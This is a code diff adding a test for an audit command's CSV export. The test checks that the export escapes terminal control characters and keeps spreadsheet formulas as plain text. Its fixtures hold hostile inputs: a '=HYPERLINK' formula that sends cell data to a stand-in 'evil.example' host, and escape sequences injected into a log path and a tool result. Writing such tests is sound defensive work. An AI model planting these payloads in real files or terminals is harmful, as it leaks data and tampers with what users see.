@@ -117,3 +117,25 @@ def test_audit_feedback_exports_each_click(db, capsys):
     assert main(["audit", "--feedback", "--format", "csv"]) == 0
     [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     assert (row["user"], row["value"]) == ("U2", "positive")
+
+
+def test_audit_csv_reveals_control_characters_and_keeps_formulas_as_text(tmp_path, monkeypatch, capsys):
+    path = tmp_path / "hostile.db"
+    monkeypatch.setenv("OPSLOOP_DB", str(path))
+    ledger = Ledger(path)
+    run = ledger.create_run(channel="C1", thread_ts="1.0", requester="U1", task="disk", model="claude-sonnet-5-5")
+    a = ledger.create_approval(run_id=run.id, tool_use_id="toolu_1", tool="clean_logs", category="destructive",
+                               args={"path": "/var/log\x1b]0;pwned\x07"}, requester="U1", expires_at=2e9,
+                               preview='=HYPERLINK("https://evil.example/?x="&A1,"open")')
+    count_approval(ledger, a.id, "U2", decided_name="@bob", now=1.8e9)
+    ledger.save_tool_result(run.id, tool_use_id="toolu_1", tool="clean_logs", args={}, is_error=False,
+                            content="-1+1\x1b[2J cleared", confirmed_by="U2")
+    ledger.close()
+    assert main(["audit", "--format", "csv"]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert row["preview"].startswith("'=HYPERLINK(") and row["decided_name"] == "'@bob"
+    assert row["result"].startswith("'-1+1") and "⟨U+001B⟩" in row["result"]
+    assert json.loads(row["args"]) == {"path": "/var/log\x1b]0;pwned\x07"}  # JSON cells carry escapes, not bytes
+    assert (row["tool"], row["decided_by"]) == ("clean_logs", "U2")
